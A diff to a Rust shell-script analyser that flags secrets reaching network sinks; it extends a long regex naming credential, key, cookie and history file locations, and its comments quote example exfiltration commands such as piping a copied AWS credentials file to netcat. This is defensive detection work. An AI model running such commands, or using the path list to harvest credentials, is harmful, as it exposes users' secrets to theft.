@@ -36,7 +36,7 @@ fn secret_file_re() -> &'static Regex {
     static RE: OnceLock<Regex> = OnceLock::new();
     RE.get_or_init(|| {
         Regex::new(
-            r"(^|/)\.ssh(/(id_[\w*?-]+|[\w.-]*_key|[\w.-]+\.pem|identity)?)?/?$|(^|/)\.aws(/credentials|/config)?/?$|\.config/gh/hosts\.yml$|(^|/)\.kube(/config)?/?$|\.docker/config\.json$|(^|/)\.(netrc|pgpass|npmrc|pypirc|git-credentials)$|(^|/)\.env(\.[\w.-]+)?$|^/etc/(shadow|gshadow|passwd|sudoers)$|(^|/)\.gnupg(/|$)|(^|/)\.password-store(/|$)|/proc/(self|\d+|\*)/environ$|(^|/)\.(bash|zsh)_history$|(^|/)id_(rsa|dsa|ecdsa|ed25519)$|\.config/gcloud(/|$)|\.azure(/|$)|(Chrome|Chromium|chromium|google-chrome|BraveSoftware|Brave-Browser|Microsoft Edge|microsoft-edge|Vivaldi|vivaldi|Opera|opera)/.*(Login Data|Cookies|Web Data|Local State)$|(\.mozilla/firefox|Firefox/Profiles|\.thunderbird)/.*(logins\.json|key[34]\.db|cookies\.sqlite|cert9\.db|signons\.sqlite)$|Library/Keychains(/|$)|\.local/share/keyrings(/|$)|(^|/)[\w.-]+\.(key|p12|pfx|jks|keystore|kdbx)$|/(var/)?run/secrets/|(^|/)terraform\.tfstate(\.backup)?$|(^|/)wallet\.dat$|(^|/)\.vault-token$|(^|/)\.bitcoin(/|$)|(^|/)[\w.-]*(private|priv|key)[\w.-]*\.pem$|(^|/)\.cargo/credentials(\.toml)?$|(^|/)\.terraform\.d/credentials\.tfrc\.json$|(^|/)\.m2/settings(-security)?\.xml$|(^|/)\.gem/credentials$|(^|/)\.composer/auth\.json$|(^|/)\.gradle/gradle\.properties$|(^|/)\.config/rclone/rclone\.conf$|(^|/)\.(s3cfg|boto|databrickscfg|my\.cnf)$|(^|/)\.config/hub$|(^|/)\.nuget/NuGet/NuGet\.Config$|(^|/)\.sbt/\.?credentials$|(^|/)\.config/doctl/config\.yaml$|(^|/)(\.ngrok2|\.config/ngrok)/ngrok\.yml$|(^|/)\.config/op(/|$)|(^|/)\.snowsql/config$|^/vault/secrets/|(^|/)\.claude/\.credentials\.json$|(^|/)\.codex/auth\.json$|(^|/)\.gemini/oauth_creds\.json$|(^|/)\.config/github-copilot/(hosts|apps)\.json$|(^|/)\.config/solana/[\w.-]*\.json$|(^|/)\.ethereum/keystore(/|$)|(^|/)\.yarnrc\.yml$|(^|/)\.fly/config\.yml$|(^|/)(com\.vercel\.cli|\.config/vercel|\.vercel)/auth\.json$|(^|/)\.config/netlify/config\.json$|(^|/)\.wrangler/config/default\.toml$|(^|/)\.config/configstore/firebase-tools\.json$|(^|/)\.config/hcloud/cli\.toml$",
+            r"(^|/)\.ssh(/(id_[\w*?-]+|[\w.-]*_key|[\w.-]+\.pem|identity)?)?/?$|(^|/)\.aws(/credentials|/config)?/?$|\.config/gh/hosts\.yml$|(^|/)\.kube(/config)?/?$|\.docker/config\.json$|(^|/)\.(netrc|pgpass|npmrc|pypirc|git-credentials)$|(^|/)\.env(\.[\w.-]+)?$|^/etc/(shadow|gshadow|passwd|sudoers)$|(^|/)\.gnupg(/|$)|(^|/)\.password-store(/|$)|/proc/(self|\d+|\*)/environ$|(^|/)\.(bash|zsh)_history$|(^|/)id_(rsa|dsa|ecdsa|ed25519)$|\.config/gcloud(/|$)|\.azure(/|$)|(Chrome|Chromium|chromium|google-chrome|BraveSoftware|Brave-Browser|Microsoft Edge|microsoft-edge|Vivaldi|vivaldi|Opera|opera)/.*(Login Data|Cookies|Web Data|Local State)$|(\.mozilla/firefox|Firefox/Profiles|\.thunderbird)/.*(logins\.json|key[34]\.db|cookies\.sqlite|cert9\.db|signons\.sqlite)$|Library/Keychains(/|$)|\.local/share/keyrings(/|$)|(^|/)[\w.-]+\.(key|p12|pfx|jks|keystore|kdbx)$|/(var/)?run/secrets/|(^|/)terraform\.tfstate(\.backup)?$|(^|/)wallet\.dat$|(^|/)\.vault-token$|(^|/)\.bitcoin(/|$)|(^|/)[\w.-]*(private|priv|key)[\w.-]*\.pem$|(^|/)\.cargo/credentials(\.toml)?$|(^|/)\.terraform\.d/credentials\.tfrc\.json$|(^|/)\.m2/settings(-security)?\.xml$|(^|/)\.gem/credentials$|(^|/)\.composer/auth\.json$|(^|/)\.gradle/gradle\.properties$|(^|/)\.config/rclone/rclone\.conf$|(^|/)\.(s3cfg|boto|databrickscfg|my\.cnf)$|(^|/)\.config/hub$|(^|/)\.nuget/NuGet/NuGet\.Config$|(^|/)\.sbt/\.?credentials$|(^|/)\.config/doctl/config\.yaml$|(^|/)(\.ngrok2|\.config/ngrok)/ngrok\.yml$|(^|/)\.config/op(/|$)|(^|/)\.snowsql/config$|^/vault/secrets/|(^|/)\.claude/\.credentials\.json$|(^|/)\.codex/auth\.json$|(^|/)\.gemini/oauth_creds\.json$|(^|/)\.config/github-copilot/(hosts|apps)\.json$|(^|/)\.config/solana/[\w.-]*\.json$|(^|/)\.ethereum/keystore(/|$)|(^|/)\.yarnrc\.yml$|(^|/)\.fly/config\.yml$|(^|/)(com\.vercel\.cli|\.config/vercel|\.vercel)/auth\.json$|(^|/)\.config/netlify/config\.json$|(^|/)\.wrangler/config/default\.toml$|(^|/)\.config/configstore/firebase-tools\.json$|(^|/)\.config/hcloud/cli\.toml$|^/etc/ssh/ssh_host_[\w*?]+_key$|(^|/)config/(secrets\.ya?ml|master\.key|credentials\.yml\.enc)$|(^|/)\.(python|psql|mysql|sqlite|node_repl|irb|rediscli|lesshst|fish)_history$|(^|/)\.local/share/fish/fish_history$|(^|/)User/globalStorage/state\.vscdb$|^/proc/[^/]+/mem$",
         )
         .expect("static regex")
     })
@@ -108,6 +108,9 @@ fn secret_at(cmd: &Command, p: &str) -> bool {
         return true;
     }
     let bare = p.trim_start_matches(['@', '<']);
+    if COPIES.with(|c| c.borrow().contains(bare)) {
+        return true;
+    }
     cmd.cwd.as_deref().is_some_and(|dir| {
         !bare.is_empty()
             && !bare.contains("://")
@@ -191,6 +194,14 @@ fn command_source(script: &Script, cmd: &Command) -> Option<(Secret, String)> {
     }
     if let Some(what) = credential_printer(name, args) {
         return Some((Secret::File, what));
+    }
+    // The shell's own history: every command typed, tokens pasted on command lines included.
+    if name == "history"
+        && args
+            .iter()
+            .all(|a| a.text.chars().all(|c| c.is_ascii_digit()))
+    {
+        return Some((Secret::File, "the shell history (`history`)".into()));
     }
     if let Some(what) = secret_search(name, args) {
         return Some((Secret::File, what));
@@ -374,9 +385,16 @@ fn credential_printer(name: &str, args: &[Word]) -> Option<String> {
     let has = |w: &str| text.contains(&w);
     let secretish = |t: &&str| {
         let l = t.to_ascii_lowercase();
-        ["credential", "token", "password", "secret", "auth"]
-            .iter()
-            .any(|k| l.contains(k))
+        [
+            "credential",
+            "token",
+            "password",
+            "secret",
+            "auth",
+            "extraheader",
+        ]
+        .iter()
+        .any(|k| l.contains(k))
     };
     let hit = match name {
         "git" => {
@@ -390,6 +408,9 @@ fn credential_printer(name: &str, args: &[Word]) -> Option<String> {
                 || (has("credential") && (has("fill") || has("get")))
         }
         "gh" | "glab" => has("auth") && has("token"),
+        "npm" | "pnpm" | "yarn" => {
+            has("config") && has("get") && text.iter().any(|t| t.contains("_auth"))
+        }
         "aws" => {
             (has("configure") && (has("export-credentials") || text.iter().any(secretish)))
                 || has("get-session-token")
@@ -457,6 +478,32 @@ fn credential_printer(name: &str, args: &[Word]) -> Option<String> {
         _ => false,
     };
     hit.then(|| format!("`{name} {}` (prints credentials)", text.join(" ")))
+}
+
+/// A token printed by a vendor's CLI (`gh auth token`, `gcloud auth print-access-token`) sent in
+/// a header is ordinary use when the request goes to that vendor, or when the printer's vendor
+/// cannot be told from the host (a cluster, a vault); to any other host it is exfiltration.
+fn printed_for_its_vendor(what: &str, payload: &[&Word]) -> bool {
+    let printer = what
+        .trim_start_matches('`')
+        .split_whitespace()
+        .next()
+        .unwrap_or("");
+    let vendors: &[&str] = match printer {
+        "gh" => &["github"],
+        "glab" => &["gitlab"],
+        "gcloud" => &["googleapis", "google", "gcr.io", "pkg.dev"],
+        "az" => &["azure", "microsoft", "windows.net", "azurecr.io"],
+        "aws" => &["amazonaws", "aws"],
+        "npm" | "pnpm" | "yarn" => &["npmjs", "yarnpkg", "npm.pkg.github.com"],
+        "heroku" => &["heroku"],
+        _ => return true,
+    };
+    let hosts: Vec<String> = payload.iter().filter_map(|w| url_host(&w.text)).collect();
+    hosts.is_empty()
+        || hosts
+            .iter()
+            .all(|h| is_loopback(h) || vendors.iter().any(|v| h.contains(v)))
 }
 
 /// A secret reaching these words: a secret variable, a secret file path, or a substitution whose
@@ -993,6 +1040,23 @@ fn transfer_operands<'a>(name: &str, args: &'a [Word]) -> Vec<&'a str> {
 /// `host:path`, `user@host:path`, `rsync://…` — but not a local path with a colon-free name.
 /// Find every secret that reaches a network sink.
 pub fn analyze(script: &Script) -> Vec<Hit> {
+    COPIES.with(|c| c.borrow_mut().clear());
+    let copies = secret_copies(script);
+    COPIES.with(|c| *c.borrow_mut() = copies.clone());
+    let hits = analyze_with_copies(script, copies);
+    COPIES.with(|c| c.borrow_mut().clear());
+    hits
+}
+
+thread_local! {
+    /// Files this input filled with a secret (see [`secret_copies`]), while one script is
+    /// analysed: reading one of them is reading the secret (`cp ~/.aws/credentials /tmp/c; nc
+    /// host 9 < /tmp/c`).
+    static COPIES: std::cell::RefCell<std::collections::HashSet<String>> =
+        std::cell::RefCell::new(std::collections::HashSet::new());
+}
+
+fn analyze_with_copies(script: &Script, copies: std::collections::HashSet<String>) -> Vec<Hit> {
     let mut hits: Vec<Hit> = script
         .effects
         .iter()
@@ -1031,7 +1095,6 @@ pub fn analyze(script: &Script) -> Vec<Hit> {
         )
         .collect();
     let mut upstream = Upstream::default();
-    let copies = secret_copies(script);
     let is_secret =
         |cmd: &Command, f: &str| secret_at(cmd, f) || copies.contains(f.trim_start_matches('@'));
     // A credential copied into a working tree and then pushed (`cp ~/.aws/credentials drop/ &&
@@ -1094,6 +1157,38 @@ pub fn analyze(script: &Script) -> Vec<Hit> {
             });
         }
     }
+    // `read -r -d '' K < ~/.ssh/id_rsa`, `mapfile -t L < ~/.aws/credentials`: variables that
+    // hold a secret file's text.
+    let read_vars: Vec<(String, String)> = script
+        .commands
+        .iter()
+        .filter(|c| matches!(c.name(), "read" | "mapfile" | "readarray"))
+        .filter_map(|c| {
+            let file = c
+                .redirects
+                .iter()
+                .find(|r| r.op == "<" && secret_at(c, &r.target.text))?;
+            let name = c
+                .args()
+                .iter()
+                .rev()
+                .find(|a| {
+                    !a.text.starts_with('-')
+                        && a.text
+                            .chars()
+                            .all(|ch| ch.is_ascii_alphanumeric() || ch == '_')
+                })
+                .map(|a| a.text.clone())
+                .unwrap_or_else(|| {
+                    if c.name() == "read" {
+                        "REPLY".into()
+                    } else {
+                        "MAPFILE".into()
+                    }
+                });
+            Some((name, file.target.text.clone()))
+        })
+        .collect();
     for (idx, cmd) in script.commands.iter().enumerate() {
         let Some(sink) = sink_args(cmd) else { continue };
         let mut found: Option<(Secret, String)> = None;
@@ -1110,6 +1205,13 @@ pub fn analyze(script: &Script) -> Vec<Hit> {
                 .find(|f| is_secret(cmd, f))
                 .map(|f| (Secret::File, f.clone())),
         );
+        keep(read_vars.iter().find_map(|(var, file)| {
+            let named = |w: &&Word| {
+                w.text.contains(&format!("${var}")) || w.text.contains(&format!("${{{var}"))
+            };
+            (sink.payload.iter().any(named) || sink.meta.iter().any(named))
+                .then(|| (Secret::File, format!("{file} (read into ${var})")))
+        }));
         // A secret file's content in a header or cookie (a printed token there is the normal
         // way to call an API).
         keep(
@@ -1119,7 +1221,8 @@ pub fn analyze(script: &Script) -> Vec<Hit> {
             )
             .filter(|(kind, what)| {
                 *kind > Secret::Variable
-                    && !what.ends_with("(prints credentials)")
+                    && !(what.ends_with("(prints credentials)")
+                        && printed_for_its_vendor(what, &sink.payload))
                     && !(what.contains("serviceaccount/token") && to_cluster_api(&sink.payload))
             }),
         );
@@ -1174,7 +1277,7 @@ pub fn analyze(script: &Script) -> Vec<Hit> {
         keep(
             cmd.redirects
                 .iter()
-                .find(|r| r.op == "<" && is_secret_path(&r.target.text))
+                .find(|r| r.op == "<" && secret_at(cmd, &r.target.text))
                 .map(|r| (Secret::File, r.target.text.clone())),
         );
         if (sink.reads_stdin || !cmd.pipes.is_empty() && cmd.stdin_text.is_none())
